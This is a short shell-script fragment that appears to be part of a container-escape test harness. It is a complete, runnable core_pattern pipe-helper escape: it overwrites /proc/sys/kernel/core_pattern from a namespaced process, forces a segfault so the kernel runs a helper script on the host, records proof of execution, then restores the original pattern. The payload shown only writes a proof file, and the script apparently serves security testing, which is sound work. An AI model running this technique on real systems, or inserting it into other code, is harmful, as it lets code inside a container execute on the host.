# A2 core_pattern pipe-helper escape (restores the original pattern)
cat > "$H/cp_payload.sh" <<'P'
#!/bin/sh
echo "core helper pid=$$ ppid=$PPID parent=$(cat /proc/$PPID/comm) args=$*" > "$0.proof"; cat > /dev/null
P
chmod +x "$H/cp_payload.sh"
ORIG=$(cat /proc/sys/kernel/core_pattern)
ctr_run simctr-infer-a2 ctr-infer --mount --pid --fork --mount-proc -- sh -c '
  echo "|$0/cp_payload.sh %P %e" > /proc/sys/kernel/core_pattern
  sh -c "ulimit -c unlimited; kill -SEGV \$\$"; true' "$H"
sleep 1; printf '%s\n' "$ORIG" > /proc/sys/kernel/core_pattern
cat "$H/cp_payload.sh.proof"; echo "core_pattern restored: $(cat /proc/sys/kernel/core_pattern)"
